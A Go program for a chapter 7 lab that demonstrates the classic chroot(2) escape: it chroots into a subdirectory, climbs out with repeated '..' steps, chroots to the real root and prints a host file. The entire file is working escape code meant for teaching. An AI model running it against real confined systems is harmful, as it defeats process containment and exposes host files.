// Command escape is the classic way out of chroot(2), for the lab of chapter 7. It prints a file
// of the host.
//
// chroot changes where "/" begins for path lookup, and nothing else. A process whose working
// directory lies outside its root can walk up with ".." without being stopped at that root. To
// get outside it is enough to call chroot once more, on a directory below the one we stand in.
package main

import (
	"fmt"
	"os"
	"syscall"
)

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: escape FILE-OF-THE-HOST")
		os.Exit(2)
	}
	if err := escape(); err != nil {
		fmt.Fprintln(os.Stderr, "escape:", err)
		os.Exit(2)
	}
	text, err := os.ReadFile(os.Args[1])
	if err != nil {
		fmt.Println("still inside:", err)
		os.Exit(1)
	}
	fmt.Printf("outside: %s", text)
}

func escape() error {
	if err := os.Mkdir("/hole", 0o700); err != nil && !os.IsExist(err) {
		return err
	}
	if err := syscall.Chroot("/hole"); err != nil { // the working directory is now above the root
		return err
	}
	for i := 0; i < 100; i++ { // ".." at the real root stays there
		if err := syscall.Chdir(".."); err != nil {
			return err
		}
	}
	return syscall.Chroot(".")
}
